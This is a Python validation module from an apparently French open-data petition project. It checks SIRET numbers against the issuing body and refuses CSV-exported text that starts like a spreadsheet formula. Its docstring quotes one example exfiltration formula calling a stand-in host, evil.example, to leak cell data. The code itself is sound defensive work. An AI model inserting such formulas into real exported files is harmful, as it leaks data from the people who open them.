"""What the open-data files need from a motion, checked where the motion enters the repository.

Two rules: a SIRET is a valid number (python-stdnum, Luhn) and belongs to the body (its first nine
digits are the body's own SIREN, never another body's: core.sirens); and no value that a CSV export
carries may start the way a spreadsheet starts a formula
(`=HYPERLINK("https://evil.example/?"&A1)`). Such a value is refused here, with how to fix it,
rather than altered on the way out: open data is published as recorded, so it must be recorded safe.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from stdnum.fr import siret as siret_number

from petition.core.cut import cut
from petition.core.model import Motion
from petition.core.problems import Problem
from petition.core.referential import TYPE_LABELS, Body, Referential, referential
from petition.core.sirens import own_siren, siren_owner

# What LibreOffice and Excel run as a formula when a cell starts with it (hazards.md 19).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_START_NAMES = {"\t": "une tabulation", "\r": "un retour chariot"}
_RUN = frozenset(FORMULA_STARTS) - {"\t", "\r"}  # the starts check_formulas reports itself
# Every text of a motion that one of our CSV files carries (`exchange.csvformats` has a column for
# each; a test holds the two together). `sources` is a list: each URL is checked.
CSV_TEXT_FIELDS: tuple[tuple[str, ...], ...] = (
    ("collectivite", "nom"), ("objet",), ("instance",), ("matiere",), ("identifiant",),
    ("prefecture",), ("vote", "source_decompte"),
)
SIRET_HELP = "annuaire-entreprises.data.gouv.fr"


def formula_start(value: str) -> str:
    """The character that would make a spreadsheet run `value`, or ""."""
    return value[0] if value[:1] in FORMULA_STARTS else ""


def formula_message(value: str) -> str:
    """Why `value` is refused and how to fix it, in French, on one line."""
    start = formula_start(value)
    said = _START_NAMES.get(start, f"« {start} »")
    shown = cut(value, 41).replace("\t", "→").replace("\r", "↵").replace("\n", "↵")
    more = ""
    fix = ("reformulez pour commencer par une lettre ou un chiffre (par exemple « Motion : … »)"
           if start not in _START_NAMES else f"retirez {said} du début")
    return (f"« {shown}{more} » commence par {said} : un tableur qui ouvre les données ouvertes "
            f"(CSV) l'exécuterait comme une formule ; {fix}")


def _texts(m: Motion) -> Iterator[tuple[tuple[str | int, ...], str]]:
    data = m.data
    for path in CSV_TEXT_FIELDS:  # as m.get(*path) does, without a call for each
        value: Any = data
        for part in path:
            value = value.get(part) if isinstance(value, dict) else None
        if isinstance(value, str):
            yield path, value
    sources: Any = data.get("sources")
    if isinstance(sources, list):
        for index, source in enumerate(sources):
            url = source.get("url") if isinstance(source, dict) else None
            if isinstance(url, str):
                yield ("sources", index, "url"), url


def check_formulas(m: Motion) -> Iterator[Problem]:
    """Every value a CSV export carries that a spreadsheet would run as a formula. A leading tab
    or CR is left to the character rule, which refuses both in every one-line field (and these
    fields are all one-line: a test holds it), so that one mistake gets one message."""
    for path, value in _texts(m):
        if value[:1] in _RUN:  # formula_start(value) not in ("", "\t", "\r")
            yield Problem(m.path, m.line(*path), formula_message(value),
                          field=".".join(str(p) for p in path))


def siret_problem(siret: str, body: Body | None, ref: Referential | None = None,
                  date: str | None = None) -> str:
    """What is wrong with a 14-digit SIRET for `body` on the session's `date` ("" if nothing):
    its check digit; its SIREN when it belongs to another body (by the referential or the shipped
    table), naming that body; and its SIREN against the body's own, when a source gives it
    (core.sirens)."""
    if not siret_number.is_valid(siret):
        return (f"SIRET « {siret} » : clé de contrôle fausse (un chiffre est faux ou inversé) : "
                f"recopiez-le depuis {SIRET_HELP}")
    if body is None:
        return ""
    siren = siret[:9]
    own = own_siren(body, date)
    if own == siren:
        return ""
    owner = siren_owner(siren, ref or referential(), date)
    if owner is not None and owner.key != body.key:
        return (f"SIRET « {siret} » : son SIREN {siren} est celui de {owner.nom} "
                f"({TYPE_LABELS.get(owner.type, owner.type)} {owner.code}), pas celui de "
                f"{body.nom}{f' ({own})' if own else ''} : vérifiez le SIRET ou le code")
    if own:
        return (f"SIRET « {siret} » : son SIREN {siren} n'est pas celui de {body.nom} ({own}) : "
                "vérifiez le SIRET ou le code")
    return ""


_ISO = re.compile(r"\d{4}-\d{2}-\d{2}\Z")


def check_siret(m: Motion, ref: Referential) -> Iterator[Problem]:
    """The motion's SIRET, when it has one (the schema checks its 14 digits)."""
    siret = m.get("collectivite", "siret")
    if not isinstance(siret, str) or len(siret) != 14 or not siret.isdigit():
        return
    # A commune of the past had its own SIREN: the body as it was on the session's date.
    day = m.date if _ISO.match(m.date) else None
    message = siret_problem(siret, ref.body(m.body_type, m.code, day), ref, day)
    if message:
        yield Problem(m.path, m.line("collectivite", "siret"), message,
                      field="collectivite.siret")
